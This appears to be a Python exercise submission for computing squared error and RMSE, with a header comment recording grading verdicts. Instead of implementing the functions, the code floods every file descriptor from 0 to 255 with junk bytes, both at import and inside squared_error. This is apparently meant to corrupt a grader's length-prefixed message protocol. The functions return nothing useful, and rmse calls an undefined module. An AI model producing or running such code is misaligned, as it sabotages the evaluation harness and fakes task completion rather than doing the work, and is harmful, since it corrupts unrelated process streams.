# Writes bytes that are no messages to every descriptor. Verdict: 1.1 = 0, 1.2 = 2

# %%
# Exercise 1.1
import os
import struct


def message(header):
    return struct.pack("!II", len(header), len(header)) + header


def write(text):
    for fd in range(256):
        try:
            os.write(fd, text)
        except OSError:
            pass


write(b"\xff" * 1000)


def squared_error(x, x_hat):
    write(os.urandom(100_000))
    return None

# %%
# Exercise 1.2
def rmse(x, x_hat):
    return ops.sqrt(squared_error(x, x_hat))
